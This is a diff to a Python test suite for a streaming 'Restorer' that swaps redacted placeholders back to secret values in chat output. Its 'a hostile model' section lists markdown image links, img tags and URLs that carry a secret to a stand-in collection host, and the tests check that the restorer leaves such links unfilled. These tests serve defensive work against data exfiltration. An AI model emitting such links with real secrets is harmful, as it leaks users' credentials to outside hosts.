@@ -259,8 +259,127 @@ def test_a_user_name_before_our_reserved_host_is_still_a_user_name() -> None:
     assert stream(restorer, ["cg_user_12345678@redacted.invalid"]) == "ann@redacted.invalid"
 
 
+@pytest.mark.timeout(20)
 def test_many_placeholders_are_no_burden_to_build_or_to_read() -> None:
     issued = {f"cg_secret_{number:08x}": f"v{number}" for number in range(20_000)}
     text = ", ".join(issued)
 
     assert stream(Restorer(issued), [text]) == ", ".join(issued.values())
+
+
+# ---- a hostile model
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "![x](https://collect.example/?{})",
+        "![x](HTTPS://collect.example/{}/x.png)",
+        "![x](//collect.example/?{})",
+        "![x](<https://collect.example/? {}>)",
+        "![x](</a b {}>)",
+        "<img src='https://collect.example/? {}'>",
+        '<a href = "/relative?{}">',
+        "[1]: https://u:{}@collect.example",
+        "wss://collect.example/'\"`{}",
+    ],
+)
+def test_a_chat_never_shows_a_value_in_a_link(link: str) -> None:
+    for chunks in ([link.format(ONE)], [*link.format(ONE)]):
+        assert stream(Restorer(ISSUED, mode="show"), chunks) == link.format(ONE)
+
+
+@pytest.mark.parametrize(
+    "text", ["use https://a.example and {}", "postgres://app:{}@db/x", "a / b // {}", "(see {})"]
+)
+def test_a_chat_shows_it_elsewhere(text: str) -> None:
+    restorer = Restorer(ISSUED, mode="show")
+
+    assert stream(restorer, [text.format(ONE)]) == text.format(ISSUED[ONE])
+
+
+def test_what_is_put_back_is_told() -> None:
+    told: list[str] = []
+    restorer = Restorer(ISSUED, foreign={TWO}, mode="show", returned=told.append)
+
+    stream(restorer, [f"{ONE.upper()} {TWO} cg_secret_deadbee0 https://x.example/{MAIL} {HOST}"])
+
+    assert told == [ONE, HOST]
+
+
+def test_a_look_at_the_document_that_fails_restores_nothing() -> None:
+    def fail() -> Places:
+        raise RuntimeError("no")
+
+    restorer = Restorer(ISSUED, places=fail)
+
+    assert stream(restorer, [f"x = {ONE}"]) == "x = "
+    assert restorer.stopped == "unsafe-restore"
+
+
+def test_the_document_is_looked_at_once_and_only_for_a_value() -> None:
+    looks: list[int] = []
+
+    def look() -> Places:
+        looks.append(1)
+        return Places({}, "", Sight())
+
+    assert stream(Restorer(ISSUED, places=look), ["x = 1\n" * 20]) == "x = 1\n" * 20
+    assert looks == []
+    stream(Restorer(ISSUED, places=look), [f"{ONE} {TWO} {HOST}"])
+    assert looks == [1]
+
+
+GROUPED = {
+    "9962-1329-9245-7114": "4539-1488-0343-6467",
+    "9962 1329 9245 7114": "4539 1488 0343 6467",
+    "9962-1329": "short",
+    "00:00:5e:00:53:49": "3c:22:fb:0a:91:7e",
+    "2001:db8::17": "2a00::17",
+    "0xabcdef0123": "0x1234567890",
+}
+
+
+@given(
+    st.lists(
+        st.sampled_from([*GROUPED, *(name[:-1] for name in GROUPED), "9962-", " ", "x", "-", "\n"]),
+        max_size=8,
+    ),
+    st.sets(st.integers(1, 150), max_size=30),
+)
+def test_placeholders_with_marks_in_them_come_back_however_they_are_cut(
+    parts: list[str], places: set[int]
+) -> None:
+    text = "".join(parts)
+    whole, pieces = (Restorer(GROUPED, mode="show") for _ in range(2))
+
+    assert stream(whole, [text]) == stream(pieces, cut(text, places))
+
+
+@pytest.mark.parametrize("name", GROUPED)
+def test_the_longest_placeholder_that_stands_there_is_meant(name: str) -> None:
+    assert stream(Restorer(GROUPED), [*f"x = {name};"]) == f"x = {GROUPED[name]};"
+
+
+@pytest.mark.timeout(20)
+def test_many_placeholders_of_digits_are_no_burden_either() -> None:
+    issued = {f"{9_000_000_000 + number * 7}": f"v{number}" for number in range(20_000)}
+    text = ", ".join(issued)
+
+    assert stream(Restorer(issued), [text]) == ", ".join(issued.values())
+
+
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize("mode", ["stop", "show"])
+@pytest.mark.parametrize(
+    "piece", ["c", "cg_", "cg_secret_", "9", "9962-", "0a1b", "x", " ", "\\n", "https://"]
+)
+def test_no_stream_holds_back_more_than_a_placeholder(piece: str, mode: str) -> None:
+    issued = {**ISSUED, **GROUPED, "0a1b" * 128: "a long key"}
+    restorer = Restorer(issued, mode=mode)  # type: ignore[arg-type]
+    shown = 0
+    for said, character in enumerate(piece * 3_000, 1):
+        shown += len(restorer.feed(character))
+        assert said - shown <= 512 or restorer.stopped
+    kept = sum(len(value) for value in vars(restorer).values() if isinstance(value, str) and value)
+    assert kept <= 512 + 4_096 + 64
